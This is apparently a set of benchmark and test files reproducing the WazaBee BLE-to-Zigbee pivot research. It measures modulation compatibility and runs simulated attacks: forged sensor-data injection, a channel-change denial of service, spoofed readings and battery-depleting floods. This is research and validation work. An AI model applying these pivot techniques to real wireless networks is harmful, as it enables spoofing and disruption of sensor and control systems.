        "Ablation: symbol decode accuracy vs chip error rate",
        "\n".join(
            f"chip error {rate:.2f}: {acc:.4f}" for rate, acc in accuracy.items()
        ),
    )
    assert accuracy[0.0] == 1.0
    assert accuracy[0.1] > 0.97  # the regime GMSK≈MSK errors live in
    assert accuracy[0.3] > 0.5  # graceful, not cliff-edge
    rates = list(accuracy.values())
    assert rates == sorted(rates, reverse=True)


def test_ablation_esb_fallback(benchmark, report):
    comparison = benchmark.pedantic(
        esb_fallback_comparison,
        kwargs={"frames": 40, "seed": 3},
        rounds=1,
        iterations=1,
    )
    report(
        "Ablation: LE 2M vs Enhanced ShockBurst fallback (reception)",
        f"nRF52832 / LE 2M:   {comparison.le2m_valid_rate:.3f} valid\n"
        f"nRF51822 / ESB 2M:  {comparison.esb_valid_rate:.3f} valid\n"
        f"({comparison.frames} frames each)",
    )
    # §VI-C: "a direct impact on the reception quality, but it is
    # sufficient" — degraded yet usable.
    assert comparison.le2m_valid_rate >= comparison.esb_valid_rate
    assert comparison.esb_valid_rate > 0.3


def test_ablation_whitening_strategies(benchmark, report):
    def check_all_channels():
        results = {}
        for channel in (0, 8, 17, 27, 39):
            _, _, equal = whitening_strategy_check(channel_index=channel)
            results[channel] = equal
        return results

    results = benchmark(check_all_channels)
    report(
        "Ablation: whitening disabled vs pre-inverted (on-air equality)",
        "\n".join(f"BLE channel {ch}: {'ok' if eq else 'MISMATCH'}"
                  for ch, eq in results.items()),
    )
    assert all(results.values())
