"""Table I — the symbol → PN-sequence correspondence table.

Regenerates every row and benchmarks the DSSS spread/despread path that
consumes it.
"""

import numpy as np

from repro.phy.ieee802154 import PN_SEQUENCES, despread_chips, spread_bytes
from repro.experiments.reports import render_table1



def test_table1_regeneration(benchmark, report):
    report("Table I: block / PN sequence correspondence", render_table1())

    # Paper-pinned rows.
    assert "".join(map(str, PN_SEQUENCES[0])) == (
        "11011001110000110101001000101110"
    )
    assert "".join(map(str, PN_SEQUENCES[15])) == (
        "11001001011000000111011110111000"
    )

    payload = bytes(range(64))

    def spread_and_despread():
        chips = spread_bytes(payload)
        symbols, _ = despread_chips(chips)
        return symbols

    symbols = benchmark(spread_and_despread)
    assert len(symbols) == 2 * len(payload)


def test_table1_noise_margin(benchmark):
    """Benchmark despreading under a 10% chip error rate — the regime the
    Hamming matching of §IV-D is designed for."""
    rng = np.random.default_rng(0)
    chips = spread_bytes(bytes(range(32)))

    def decode_noisy():
        noisy = chips ^ (rng.random(chips.size) < 0.1).astype(np.uint8)
        symbols, distances = despread_chips(noisy)
        return symbols, distances

    symbols, distances = benchmark(decode_noisy)
    expected, _ = despread_chips(chips)
    errors = sum(1 for a, b in zip(symbols, expected) if a != b)
    assert errors <= 2
    assert np.mean(distances) > 1.0
