"""§VII's pivot criterion, measured: spectral occupancy of both waveforms.

"if the frequencies overlap, while the modulations are similar enough to be
able to control what is received by one protocol from an emission of the
other, the two protocols are by design vulnerable to pivoting techniques."

This bench quantifies the first half of that sentence for the BLE LE 2M /
802.15.4 pair: 99%-power occupied bandwidths and the normalised spectral
overlap (Bhattacharyya coefficient of the two PSDs).
"""

from repro.experiments.figures import spectral_comparison


def test_spectral_overlap(benchmark, report):
    result = benchmark.pedantic(spectral_comparison, rounds=1, iterations=1)
    report(
        "Spectral occupancy: BLE LE 2M GFSK vs 802.15.4 O-QPSK",
        f"GFSK  99% occupied bandwidth: {result['gfsk_obw_hz'] / 1e6:.2f} MHz\n"
        f"O-QPSK 99% occupied bandwidth: {result['oqpsk_obw_hz'] / 1e6:.2f} MHz\n"
        f"normalised spectral overlap:   {result['overlap']:.4f}",
    )
    # Both fill (roughly) the 2 MHz channel the two standards allocate...
    assert 1.5e6 < result["gfsk_obw_hz"] < 3.5e6
    assert 1.5e6 < result["oqpsk_obw_hz"] < 3.5e6
    # ...and their spectra are nearly indistinguishable — the §VII premise.
    assert result["overlap"] > 0.98
