"""Scenario B / Figure 5 — complex Zigbee attack from a BLE tracker.

Regenerates the §VI-C experiment: active scan → eavesdrop → remote AT
channel-change DoS → spoofed sensor readings, all from an nRF51822 tracker
running the ESB 2 Mbit/s fallback.
"""

from repro.attacks.scenario_b import AttackPhase
from repro.experiments.scenarios import run_scenario_b


def test_scenario_b_full_chain(benchmark, report):
    result = benchmark.pedantic(
        run_scenario_b,
        kwargs={"duration_s": 40.0, "dos_channel": 26, "fake_value": 99, "seed": 5},
        rounds=1,
        iterations=1,
    )
    report(
        "Scenario B: tracker attack workflow (Figure 5)",
        "\n".join(result.log)
        + f"\nfinal phase:             {result.final_phase.value}"
        + f"\nsensor channel after:    {result.sensor_channel_after}"
        + f"\ndisplay: {result.legitimate_entries} legitimate / "
        f"{result.spoofed_entries} spoofed entries",
    )

    assert result.final_phase is AttackPhase.DONE
    assert result.network_channel == 14  # found by active scan
    assert result.sensor_channel_after == 26  # DoS via remote AT CH
    assert result.spoofed_entries == 5
    # After the DoS the display shows (almost) only attacker data.
    assert result.spoofed_entries > result.legitimate_entries


def test_scenario_b_repeatability(benchmark, report):
    """The chain is robust, not a lucky seed: multiple independent runs."""

    def run_many():
        outcomes = []
        for seed in (11, 23, 47):
            result = run_scenario_b(duration_s=40.0, seed=seed)
            outcomes.append(
                (seed, result.final_phase, result.sensor_channel_after)
            )
        return outcomes

    outcomes = benchmark.pedantic(run_many, rounds=1, iterations=1)
    report(
        "Scenario B companion: repeatability over seeds",
        "\n".join(
            f"seed {seed}: phase={phase.value}, sensor_channel={channel}"
            for seed, phase, channel in outcomes
        ),
    )
    successes = [o for o in outcomes if o[1] is AttackPhase.DONE and o[2] == 26]
    assert len(successes) >= 2
