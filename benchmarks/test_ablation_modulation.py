"""Ablations over the modulation-compatibility design choices (DESIGN.md §5).

The paper's §IV-B argues the pivot works because (a) the Gaussian filter's
effect is negligible and (b) BLE's modulation-index window brackets the MSK
value.  These benches quantify both claims.
"""

from repro.experiments.ablations import gaussian_bt_sweep, modulation_index_sweep


def test_ablation_gaussian_bt(benchmark, report):
    rates = benchmark.pedantic(
        gaussian_bt_sweep,
        kwargs={"bt_values": (0.3, 0.5, 1.0, None), "num_chips": 8192},
        rounds=1,
        iterations=1,
    )
    report(
        "Ablation: chip error rate vs Gaussian BT (GFSK TX -> MSK RX)",
        "\n".join(f"{name:>8}: {rate:.5f}" for name, rate in rates.items()),
    )
    # "If we neglect the effect of the Gaussian filter" is justified at the
    # BLE value:
    assert rates["BT=0.5"] < 0.01
    assert rates["MSK"] == 0.0
    # Heavier smearing degrades monotonically.
    assert rates["BT=0.3"] >= rates["BT=0.5"] >= rates["BT=1.0"]


def test_ablation_modulation_index(benchmark, report):
    rates = benchmark.pedantic(
        modulation_index_sweep,
        kwargs={"h_values": (0.45, 0.48, 0.5, 0.52, 0.55), "num_chips": 8192},
        rounds=1,
        iterations=1,
    )
    report(
        "Ablation: chip error rate vs modulation index (BLE window)",
        "\n".join(f"h={h}: {rate:.5f}" for h, rate in rates.items()),
    )
    # The window the BLE spec allows keeps the raw chip error rate well
    # inside what 32-chip Hamming despreading absorbs.
    assert all(rate < 0.12 for rate in rates.values())
    assert rates[0.5] <= min(rates[0.45], rates[0.55])
