"""Scenario A / Figure 4 — forged data packet injection from a smartphone.

Regenerates the §VI-B experiment: an unrooted phone running extended
advertising injects forged sensor readings into the Zigbee network; the
coordinator's display (the paper's HTML graph) is the observable.
"""

from repro.experiments.scenarios import run_scenario_a


def test_scenario_a_injection(benchmark, report):
    result = benchmark.pedantic(
        run_scenario_a,
        kwargs={"duration_s": 120.0, "zigbee_channel": 14, "seed": 7},
        rounds=1,
        iterations=1,
    )
    report(
        "Scenario A: smartphone 802.15.4 injection (Figure 4)",
        f"advertising events:           {result.events_total}\n"
        f"events on target BLE channel: {result.events_on_target} "
        f"(hit rate {result.hit_rate:.4f}; CSA#2 expectation 1/37 = 0.0270)\n"
        f"forged readings on display:   {result.injected_received}",
    )

    # The attack works: forged frames appear on the coordinator's display.
    assert result.injected_received >= 1
    # The channel lottery shape: hits happen, at roughly the CSA#2 rate.
    assert result.events_on_target >= 1
    assert result.hit_rate < 0.15
    # Delivery of on-target events is reliable (the injection itself is
    # not the bottleneck — the lottery is).
    assert result.injected_received >= 0.6 * result.events_on_target


def test_scenario_a_channel_gating(benchmark, report):
    """Injection is channel-selective: advertising de-whitened for BLE
    channel 8 (Zigbee 14) puts nothing on a coordinator parked on another
    Zigbee channel's frequency."""

    def run_off_channel():
        # The network listens on channel 14 but the attack targets 16:
        # its AUX_ADV_IND only ever forms valid frames at 2430 MHz.
        return run_scenario_a(
            duration_s=60.0, zigbee_channel=16, seed=3
        )

    result = benchmark.pedantic(run_off_channel, rounds=1, iterations=1)
    report(
        "Scenario A companion: wrong-channel selectivity",
        f"events: {result.events_total}, on 2430 MHz: {result.events_on_target}, "
        f"received by the channel-14 coordinator: {result.injected_received}",
    )
    assert result.injected_received == 0
