"""Ablations over the §IV-D requirements list and §VII residual risks.

* Requirement 1 (2 Mbit/s data rate): violating it with an LE 1M radio
  yields nothing at the Zigbee receiver.
* Residual risk on encrypted networks: energy depletion still works.
"""

import numpy as np

from repro.experiments.ablations import data_rate_requirement_check


def test_requirement_data_rate(benchmark, report):
    check = benchmark.pedantic(
        data_rate_requirement_check,
        kwargs={"frames": 10, "seed": 2},
        rounds=1,
        iterations=1,
    )
    report(
        "Requirement 1 (§IV-D): 2 Mbit/s data rate",
        f"LE 2M radio: {check.le2m_received}/{check.frames} frames received\n"
        f"LE 1M radio: {check.le1m_received}/{check.frames} frames received "
        "(chip clock never matches — the pivot needs LE 2M or an "
        "equivalent 2 Mbit/s mode)",
    )
    assert check.le2m_received >= check.frames - 1
    assert check.le1m_received == 0


def test_energy_depletion_on_secured_network(benchmark, report):
    """Ghost-in-Zigbee over the pivot, with link-layer crypto enabled."""
    from repro.attacks.energy_depletion import EnergyDepletionAttack
    from repro.chips import Nrf52832
    from repro.core.firmware import WazaBeeFirmware
    from repro.dot15d4.frames import Address
    from repro.dot15d4.security import SecurityContext
    from repro.radio import RfMedium, Scheduler
    from repro.zigbee.energy import Battery
    from repro.zigbee.network import CoordinatorNode, SensorNode

    KEY = bytes(range(16))
    COORD = Address(pan_id=0x1234, address=0x42)
    SENSOR = Address(pan_id=0x1234, address=0x63)

    def run(attack: bool) -> Battery:
        scheduler = Scheduler()
        medium = RfMedium(scheduler, rng=np.random.default_rng(0))
        battery = Battery(capacity_j=0.05)
        CoordinatorNode(
            medium, COORD, position=(3, 0),
            security=SecurityContext(key=KEY), rng=np.random.default_rng(1),
        ).start()
        sensor = SensorNode(
            medium, SENSOR, COORD, position=(3, 1.5), battery=battery,
            security=SecurityContext(key=KEY), rng=np.random.default_rng(2),
        )
        sensor.start()
        if attack:
            chip = Nrf52832(medium, position=(0, 0), rng=np.random.default_rng(3))
            firmware = WazaBeeFirmware(chip, scheduler)
            EnergyDepletionAttack(
                firmware,
                target=SENSOR,
                spoofed_source=Address(pan_id=0x1234, address=0x99),
                channel=14,
                rate_hz=40.0,
            ).start()
        scheduler.run(30.0)
        return battery

    def run_both():
        return run(False), run(True)

    baseline, attacked = benchmark.pedantic(run_both, rounds=1, iterations=1)
    report(
        "Residual risk (§VII): energy depletion despite AES-CCM*",
        f"baseline consumption: {baseline.consumed_j * 1e3:.2f} mJ "
        f"({baseline.fraction_remaining:.0%} left)\n"
        f"under flood:          {attacked.consumed_j * 1e3:.2f} mJ "
        f"({attacked.fraction_remaining:.0%} left, "
        f"depleted={attacked.depleted})",
    )
    assert not baseline.depleted
    assert attacked.depleted
    assert attacked.consumed_j > 5 * baseline.consumed_j
