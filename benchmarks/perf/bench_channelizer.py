"""Wideband receiver benchmarks: channelizer split and full Table III sweep.

``channelizer_16ch`` times the polyphase filterbank itself: one wideband
capture in, sixteen per-channel basebands out.  ``table3_sweep_wideband``
times the paper-scale deliverable — every (chip, primitive, channel)
cell of Table III decoded from wideband band captures — against the
narrowband single-cell pipeline measured back-to-back on the same
machine.  The ``speedup_vs_sequential`` ratio is the PR's acceptance
number: wall-clock of the narrowband sweep (measured per-frame cost ×
channel-frames) over wall-clock of the wideband sweep.
"""

from __future__ import annotations

import time
from typing import List

import numpy as np

from benchmarks.perf.harness import BenchRecord, best_of

__all__ = ["bench_channelizer"]


def bench_channelizer(quick: bool = False) -> List[BenchRecord]:
    from repro.experiments.table3 import run_table3_cell, run_table3_wideband
    from repro.phy.channelizer import (
        PolyphaseChannelizer,
        WidebandGrid,
        compose_band,
    )

    records: List[BenchRecord] = []

    # -- channelizer_16ch: one wideband capture -> 16 basebands ----------
    grid = WidebandGrid()
    n_out = grid.pad_length(2048 if quick else 16384)
    rng = np.random.default_rng(7)
    signal = rng.standard_normal(n_out) + 1j * rng.standard_normal(n_out)
    wide = compose_band({c: signal for c in grid.channels}, grid=grid)
    channelizer = PolyphaseChannelizer(grid)
    repeats = 3 if quick else 5

    def split() -> None:
        channelizer.channelize(wide)

    latency_s = best_of(split, repeats=repeats)
    records.append(
        BenchRecord(
            name="channelizer_16ch",
            metric="ms",
            value=latency_s * 1e3,
            repeats=repeats,
            extra={
                "channels": float(len(grid.channels)),
                "samples_per_channel": float(n_out),
                "msamples_per_s": len(grid.channels) * n_out / latency_s / 1e6,
            },
        )
    )

    # -- table3_sweep_wideband: paper-scale sweep vs narrowband ----------
    frames = 10 if quick else 100
    channels = (11, 18, 26) if quick else None
    narrow_frames = 5 if quick else 25
    sweep_kwargs = {"frames": frames}
    if channels is not None:
        sweep_kwargs["channels"] = channels

    # Narrowband reference, measured on this machine right now — the
    # ratio must not track runner hardware (see harness docstring).
    def narrow_cell() -> None:
        run_table3_cell(
            "nRF52832", "rx", channel=14, frames=narrow_frames, seed=1
        )

    narrow_s = best_of(narrow_cell, repeats=3)
    narrow_ms_per_frame = narrow_s * 1e3 / narrow_frames

    run_table3_wideband(frames=2, channels=(11,))  # warm caches / pools
    sweep_repeats = 3
    timings = []
    for _ in range(sweep_repeats):
        start = time.perf_counter()
        run_table3_wideband(**sweep_kwargs)
        timings.append(time.perf_counter() - start)
    sweep_s = min(timings)
    num_channels = len(channels) if channels is not None else 16
    channel_frames = 2 * 2 * num_channels * frames
    ms_per_channel_frame = sweep_s * 1e3 / channel_frames
    records.append(
        BenchRecord(
            name="table3_sweep_wideband",
            metric="ms_per_channel_frame",
            value=ms_per_channel_frame,
            repeats=sweep_repeats,
            extra={
                "frames": float(frames),
                "channels": float(num_channels),
                "channel_frames": float(channel_frames),
                "sweep_s": sweep_s,
                "narrowband_ms_per_frame": narrow_ms_per_frame,
                "speedup_vs_sequential": narrow_ms_per_frame
                / ms_per_channel_frame,
            },
        )
    )
    return records
