"""``python -m benchmarks.perf`` — run the perf suite, write BENCH_PR8.json."""

import sys

from benchmarks.perf.harness import main

sys.exit(main())
