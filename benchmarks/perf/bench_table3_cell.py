"""Wall-clock of one Table III cell — the unit ``--workers`` parallelises.

One cell is *frames* end-to-end simulated transmissions (modulation, medium
composition, despreading, classification) on one (chip, primitive, channel)
combination.  The full table is 64 cells; cell latency × 64 / workers is
the cost of regenerating the paper's central quantitative claim.
"""

from __future__ import annotations

from typing import List

from benchmarks.perf.harness import BenchRecord, best_of
from repro.experiments.table3 import run_table3_cell

__all__ = ["bench_table3_cell"]


def bench_table3_cell(quick: bool = False) -> List[BenchRecord]:
    frames = 5 if quick else 25
    repeats = 2 if quick else 3

    def run_cell() -> None:
        run_table3_cell("nRF52832", "rx", channel=14, frames=frames, seed=1)

    latency_s = best_of(run_cell, repeats=repeats)
    return [
        BenchRecord(
            name="table3_cell_wall_clock",
            metric="ms",
            value=latency_s * 1e3,
            repeats=repeats,
            extra={
                "frames": frames,
                "ms_per_frame": latency_s * 1e3 / frames,
            },
        )
    ]
