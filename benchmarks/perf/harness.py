"""Timing harness and JSON report writer for the perf suite.

``BENCH_PR2.json`` schema (``wazabee-bench/1``)::

    {
      "schema": "wazabee-bench/1",
      "suite": "BENCH_PR2",
      "quick": false,
      "python": "3.12.3",
      "numpy": "1.26.4",
      "benchmarks": {
        "<name>": {
          "metric": "<unit of 'value', e.g. frames_per_s | ms>",
          "value": 123.4,          # headline number (higher/lower per metric)
          "repeats": 5,            # timed repetitions behind the headline
          "extra": {...}           # bench-specific context (sizes, ratios)
        },
        ...
      }
    }

Every future PR appends a ``BENCH_PR<n>.json`` produced by the same
schema, so the perf trajectory of the hot paths stays comparable across
the whole stack.
"""

from __future__ import annotations

import json
import platform
import sys
import time
from dataclasses import dataclass, field
from typing import Callable, Dict, List, Optional

import numpy as np

__all__ = ["BenchRecord", "best_of", "run_suite", "write_report"]

SCHEMA = "wazabee-bench/1"
SUITE = "BENCH_PR2"


@dataclass
class BenchRecord:
    """One benchmark's headline number plus context."""

    name: str
    metric: str
    value: float
    repeats: int
    extra: Dict[str, float] = field(default_factory=dict)


def best_of(fn: Callable[[], None], repeats: int = 5) -> float:
    """Minimum wall-clock of *repeats* runs of *fn*, in seconds.

    The minimum — not the mean — estimates the cost of the code itself;
    everything above it is scheduler noise, which a loaded CI runner has
    plenty of.
    """
    timings: List[float] = []
    for _ in range(repeats):
        start = time.perf_counter()
        fn()
        timings.append(time.perf_counter() - start)
    return min(timings)


def run_suite(quick: bool = False) -> List[BenchRecord]:
    """Execute every registered benchmark and collect the records.

    *quick* shrinks workloads to smoke-test size (the CI job) while
    keeping every code path exercised.
    """
    from benchmarks.perf.bench_capture import bench_compose_capture
    from benchmarks.perf.bench_decode import bench_decode_throughput
    from benchmarks.perf.bench_table3_cell import bench_table3_cell

    records: List[BenchRecord] = []
    records.extend(bench_decode_throughput(quick=quick))
    records.extend(bench_compose_capture(quick=quick))
    records.extend(bench_table3_cell(quick=quick))
    return records


def write_report(
    records: List[BenchRecord],
    path: str,
    quick: bool = False,
    metrics: Optional[Dict] = None,
) -> Dict:
    """Serialise *records* to *path* in the ``wazabee-bench/1`` schema.

    *metrics*, when given, is the observability registry snapshot taken
    around the suite run; it lands in a top-level ``metrics`` block (the
    per-bench bodies keep their exact four-key shape).
    """
    report = {
        "schema": SCHEMA,
        "suite": SUITE,
        "quick": quick,
        "python": platform.python_version(),
        "numpy": np.__version__,
        "metrics": metrics or {},
        "benchmarks": {
            record.name: {
                "metric": record.metric,
                "value": record.value,
                "repeats": record.repeats,
                "extra": record.extra,
            }
            for record in records
        },
    }
    with open(path, "w", encoding="utf-8") as handle:
        json.dump(report, handle, indent=2, sort_keys=True)
        handle.write("\n")
    return report


def main(argv: Optional[List[str]] = None) -> int:
    import argparse

    parser = argparse.ArgumentParser(
        prog="python -m benchmarks.perf",
        description="run the WazaBee perf suite and write BENCH_PR2.json",
    )
    parser.add_argument(
        "--quick",
        action="store_true",
        help="smoke-test workload sizes (CI); numbers are not comparable "
        "to full runs",
    )
    parser.add_argument(
        "--output",
        default="BENCH_PR2.json",
        help="report path (default: ./BENCH_PR2.json)",
    )
    parser.add_argument(
        "--trace",
        metavar="FILE",
        default=None,
        help="additionally run one traced Table III cell (smoke size) and "
        "write its trace to FILE as JSON Lines",
    )
    args = parser.parse_args(argv)
    from repro.obs import scoped

    # Scope the suite so the report's metrics block reflects only this run;
    # Table III cells open their own nested scopes and stay self-contained.
    with scoped() as (_bus, registry):
        records = run_suite(quick=args.quick)
        metrics = registry.snapshot()
    report = write_report(
        records, args.output, quick=args.quick, metrics=metrics
    )
    for name, body in sorted(report["benchmarks"].items()):
        print(f"{name:40s} {body['value']:>14.3f} {body['metric']}")
    print(f"wrote {args.output}")
    if args.trace is not None:
        from repro.experiments.table3 import run_table3_cell
        from repro.obs import write_events_jsonl

        cell = run_table3_cell(
            "nRF52832", "rx", channel=14, frames=5, seed=1, collect_trace=True
        )
        write_events_jsonl(cell.trace_events, args.trace)
        print(f"trace: {len(cell.trace_events)} events -> {args.trace}")
    return 0


if __name__ == "__main__":  # pragma: no cover
    sys.exit(main())
