"""Timing harness and JSON report writer for the perf suite.

``BENCH_PR9.json`` schema (``wazabee-bench/1``)::

    {
      "schema": "wazabee-bench/1",
      "suite": "BENCH_PR9",
      "quick": false,
      "python": "3.12.3",
      "numpy": "1.26.4",
      "benchmarks": {
        "<name>": {
          "metric": "<unit of 'value', e.g. frames_per_s | ms>",
          "value": 123.4,          # headline number (higher/lower per metric)
          "repeats": 5,            # timed repetitions behind the headline
          "extra": {...}           # bench-specific context (sizes, ratios)
        },
        ...
      }
    }

Every future PR appends a ``BENCH_PR<n>.json`` produced by the same
schema, so the perf trajectory of the hot paths stays comparable across
the whole stack.
"""

from __future__ import annotations

import json
import platform
import sys
import time
from dataclasses import dataclass, field
from typing import Callable, Dict, List, Optional

import numpy as np

__all__ = [
    "BenchRecord",
    "best_of",
    "run_suite",
    "write_report",
    "compare_reports",
]

SCHEMA = "wazabee-bench/1"
SUITE = "BENCH_PR9"

#: Throughput floor, as a fraction of the committed baseline, below which
#: the suite exits non-zero (the CI regression gate).
REGRESSION_FLOOR = 0.7

#: ``(benchmark, extra key)`` pairs enforced against the baseline.  These
#: are same-machine throughput *ratios* (optimised vs reference
#: implementation timed back-to-back), so the gate is meaningful on CI
#: runners of any speed — absolute frames/s would track runner hardware,
#: not the code.
ENFORCED_RATIOS = (
    ("decode_throughput_vectorised", "speedup_vs_scalar"),
    ("modulate_cached", "speedup_vs_direct"),
    ("table3_sweep_wideband", "speedup_vs_sequential"),
    ("fleet_medium_scan", "speedup_vs_dense"),
    ("fleet_campaign_sharded", "speedup_vs_dense"),
)


@dataclass
class BenchRecord:
    """One benchmark's headline number plus context."""

    name: str
    metric: str
    value: float
    repeats: int
    extra: Dict[str, float] = field(default_factory=dict)


def best_of(fn: Callable[[], None], repeats: int = 5) -> float:
    """Minimum wall-clock of *repeats* runs of *fn*, in seconds.

    The minimum — not the mean — estimates the cost of the code itself;
    everything above it is scheduler noise, which a loaded CI runner has
    plenty of.
    """
    timings: List[float] = []
    for _ in range(repeats):
        start = time.perf_counter()
        fn()
        timings.append(time.perf_counter() - start)
    return min(timings)


def run_suite(quick: bool = False) -> List[BenchRecord]:
    """Execute every registered benchmark and collect the records.

    *quick* shrinks workloads to smoke-test size (the CI job) while
    keeping every code path exercised.
    """
    from benchmarks.perf.bench_capture import bench_compose_capture
    from benchmarks.perf.bench_channelizer import bench_channelizer
    from benchmarks.perf.bench_decode import bench_decode_throughput
    from benchmarks.perf.bench_fleet import bench_fleet
    from benchmarks.perf.bench_modulate import bench_modulate
    from benchmarks.perf.bench_sync import bench_sync
    from benchmarks.perf.bench_table3_cell import bench_table3_cell

    records: List[BenchRecord] = []
    records.extend(bench_decode_throughput(quick=quick))
    records.extend(bench_modulate(quick=quick))
    records.extend(bench_sync(quick=quick))
    records.extend(bench_compose_capture(quick=quick))
    records.extend(bench_table3_cell(quick=quick))
    records.extend(bench_channelizer(quick=quick))
    records.extend(bench_fleet(quick=quick))
    return records


def compare_reports(current: Dict, baseline: Dict) -> List[str]:
    """Print a delta-vs-baseline summary; return regression messages.

    Every benchmark present in both reports gets a value-delta line.  The
    returned list holds one message per :data:`ENFORCED_RATIOS` entry that
    fell below :data:`REGRESSION_FLOOR` × its baseline — empty means the
    gate passes.

    A baseline written before a benchmark (or its ratio key) existed
    simply lacks the entry — the gate *skips* that pair with a printed
    note instead of failing, so adding a benchmark never requires
    rewriting history.  The pair starts gating with the first baseline
    that records it.
    """
    base_benches = baseline.get("benchmarks", {})
    for name, body in sorted(current.get("benchmarks", {}).items()):
        base = base_benches.get(name)
        if base is None or "value" not in base:
            print(f"{name:40s} {body['value']:>14.3f} {body['metric']} (new)")
            continue
        delta = (
            (body["value"] - base["value"]) / base["value"] * 100.0
            if base["value"]
            else float("nan")
        )
        print(
            f"{name:40s} {body['value']:>14.3f} {body['metric']} "
            f"({delta:+.1f}% vs baseline {base['value']:.3f})"
        )
    regressions: List[str] = []
    for name, key in ENFORCED_RATIOS:
        body = current.get("benchmarks", {}).get(name)
        base = base_benches.get(name)
        if body is None:
            continue
        now = body.get("extra", {}).get(key)
        then = (base or {}).get("extra", {}).get(key)
        if now is None or then is None or then <= 0:
            print(
                f"gate skip: {name}.{key} has no baseline value "
                f"(added after the baseline was recorded)"
            )
            continue
        if now < REGRESSION_FLOOR * then:
            regressions.append(
                f"{name}.{key} regressed: {now:.2f}x vs baseline "
                f"{then:.2f}x (floor {REGRESSION_FLOOR:.0%})"
            )
    return regressions


def write_report(
    records: List[BenchRecord],
    path: str,
    quick: bool = False,
    metrics: Optional[Dict] = None,
) -> Dict:
    """Serialise *records* to *path* in the ``wazabee-bench/1`` schema.

    *metrics*, when given, is the observability registry snapshot taken
    around the suite run; it lands in a top-level ``metrics`` block (the
    per-bench bodies keep their exact four-key shape).
    """
    report = {
        "schema": SCHEMA,
        "suite": SUITE,
        "quick": quick,
        "python": platform.python_version(),
        "numpy": np.__version__,
        "metrics": metrics or {},
        "benchmarks": {
            record.name: {
                "metric": record.metric,
                "value": record.value,
                "repeats": record.repeats,
                "extra": record.extra,
            }
            for record in records
        },
    }
    with open(path, "w", encoding="utf-8") as handle:
        json.dump(report, handle, indent=2, sort_keys=True)
        handle.write("\n")
    return report


def main(argv: Optional[List[str]] = None) -> int:
    import argparse

    parser = argparse.ArgumentParser(
        prog="python -m benchmarks.perf",
        description="run the WazaBee perf suite and write BENCH_PR9.json",
    )
    parser.add_argument(
        "--quick",
        action="store_true",
        help="smoke-test workload sizes (CI); numbers are not comparable "
        "to full runs",
    )
    parser.add_argument(
        "--output",
        default="BENCH_PR9.json",
        help="report path (default: ./BENCH_PR9.json)",
    )
    parser.add_argument(
        "--baseline",
        metavar="FILE",
        default=None,
        help="previous wazabee-bench/1 report to diff against; exits "
        "non-zero when an enforced throughput ratio drops below "
        f"{int(REGRESSION_FLOOR * 100)}%% of it",
    )
    parser.add_argument(
        "--trace",
        metavar="FILE",
        default=None,
        help="additionally run one traced Table III cell (smoke size) and "
        "write its trace to FILE as JSON Lines",
    )
    args = parser.parse_args(argv)
    from repro.obs import scoped

    # Scope the suite so the report's metrics block reflects only this run;
    # Table III cells open their own nested scopes and stay self-contained.
    with scoped() as (_bus, registry):
        records = run_suite(quick=args.quick)
        metrics = registry.snapshot()
    report = write_report(
        records, args.output, quick=args.quick, metrics=metrics
    )
    regressions: List[str] = []
    if args.baseline is not None:
        with open(args.baseline, "r", encoding="utf-8") as handle:
            baseline = json.load(handle)
        regressions = compare_reports(report, baseline)
    else:
        for name, body in sorted(report["benchmarks"].items()):
            print(f"{name:40s} {body['value']:>14.3f} {body['metric']}")
    print(f"wrote {args.output}")
    for message in regressions:
        print(f"REGRESSION: {message}", file=sys.stderr)
    if args.trace is not None:
        from repro.experiments.table3 import run_table3_cell
        from repro.obs import write_events_jsonl

        cell = run_table3_cell(
            "nRF52832", "rx", channel=14, frames=5, seed=1, collect_trace=True
        )
        write_events_jsonl(cell.trace_events, args.trace)
        print(f"trace: {len(cell.trace_events)} events -> {args.trace}")
    return 1 if regressions else 0


if __name__ == "__main__":  # pragma: no cover
    sys.exit(main())
