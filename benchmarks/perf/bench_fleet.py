"""Fleet-scale medium benchmarks: interest management vs dense scanning.

Two records:

``fleet_medium_scan`` — the equal-semantics scaling curve.  Clustered
co-channel transceivers with no-op receivers exchange scripted tones on
a dense medium and a sharded medium configured with the *same* range
cutoff (the differential suite proves the outputs identical), so the
wall-clock difference is purely the candidate-scan cost the cell/channel
interest sets avoid.  The extra block records the full nodes-vs-ms curve;
the headline is the largest size, and ``speedup_vs_dense`` at that size
feeds the regression gate.

``fleet_campaign_sharded`` — the end-to-end fleet campaign (≥200 nodes,
channel reuse, WazaBee flooders) on the sharded medium vs the legacy
*unbounded* dense broadcast medium, which delivers — and decodes — every
frame at every co-channel radio.  This is what running the campaign cost
before interest management existed; expect order-of-magnitude ratios.
"""

from __future__ import annotations

import math
from typing import List

import numpy as np

from benchmarks.perf.harness import BenchRecord, best_of
from repro.dsp.signal import IQSignal
from repro.experiments.fleet import run_fleet_campaign
from repro.radio import RfMedium, Scheduler, ShardedRfMedium, Transceiver
from repro.zigbee.fleet import make_fleet

__all__ = ["bench_fleet"]

_SAMPLE_RATE = 4e6
_CLUSTER = 10  # co-located co-channel nodes per 60 m grid cell


def _scan_world(medium_cls, num_nodes: int, txs_per_node: int) -> None:
    """Scripted tone exchange over clustered no-op receivers."""
    n = np.arange(96)
    tone = np.exp(2j * np.pi * 80e3 * n / _SAMPLE_RATE) * 0.5
    scheduler = Scheduler()
    medium = medium_cls(
        scheduler, sample_rate=_SAMPLE_RATE, seed=3, range_cutoff_m=15.0
    )
    side = math.ceil(math.sqrt(num_nodes / _CLUSTER))
    radios = []
    for i in range(num_nodes):
        cluster = i // _CLUSTER
        cx = (cluster % side) * 60.0
        cy = (cluster // side) * 60.0
        radio = Transceiver(
            medium, name=f"n{i}", position=(cx + (i % _CLUSTER) * 1.0, cy)
        )
        radio.tune(2405e6)
        radio.start_rx(lambda cap, tx: None)
        radios.append(radio)
    k = 0
    for _ in range(txs_per_node):
        for radio in radios:
            signal = IQSignal(tone, _SAMPLE_RATE, 2405e6)
            scheduler.schedule_at(
                (k % 997) * 1e-5,
                lambda r=radio, s=signal: r.transmit(s),
            )
            k += 1
    scheduler.run(0.02)


def bench_fleet(quick: bool = False) -> List[BenchRecord]:
    records: List[BenchRecord] = []

    # -- equal-semantics scan scaling curve ---------------------------------
    sizes = (50, 100) if quick else (50, 100, 200)
    txs_per_node = 3 if quick else 6
    repeats = 1 if quick else 2
    curve = {}
    for num_nodes in sizes:
        dense_s = best_of(
            lambda n=num_nodes: _scan_world(RfMedium, n, txs_per_node),
            repeats=repeats,
        )
        sharded_s = best_of(
            lambda n=num_nodes: _scan_world(ShardedRfMedium, n, txs_per_node),
            repeats=repeats,
        )
